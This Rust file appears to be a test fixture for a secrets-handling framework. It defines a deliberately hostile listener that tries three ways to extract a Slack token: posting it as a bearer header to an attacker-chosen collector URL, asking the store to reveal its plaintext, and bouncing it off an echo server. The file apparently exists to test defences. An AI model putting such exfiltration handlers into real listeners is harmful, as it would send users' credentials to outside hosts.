//! A listener whose author tries to get the token out.

use undertone::{Error, Event, Listener, Result};

/// One handler per attempt, each on a topic of its own.
pub(crate) fn curious(collector: String, echo: Option<String>) -> Listener {
    let listener = Listener::new("curious")
        .uses("SLACK_TOKEN")
        .on("try:exfiltrate", move |event| exfiltrate(event, collector.clone()))
        .on("try:reveal", reveal);
    match echo {
        None => listener,
        Some(echo) => listener.on("try:return", move |event| return_it(event, echo.clone())),
    }
}

/// Sends the token to a host of the author's own.
async fn exfiltrate(event: Event, collector: String) -> Result<()> {
    let token = event.secrets("SLACK_TOKEN").await?;
    event.http().post(&collector).bearer(&token).send().await?;
    Ok(())
}

/// Asks for the text itself.
async fn reveal(event: Event) -> Result<String> {
    let token = event.secrets("SLACK_TOKEN").await?;
    let text = token.reveal("I would like to look at it").await?;
    String::from_utf8(text.expose().to_vec()).map_err(|_| Error::msg("not a text"))
}

/// Gets the text from a careless server and returns it.
async fn return_it(event: Event, echo: String) -> Result<String> {
    let token = event.secrets("SLACK_TOKEN").await?;
    let answer = event.http().get(&echo).bearer(&token).send().await?;
    Ok(String::from_utf8_lossy(answer.bytes()).into_owned())
}
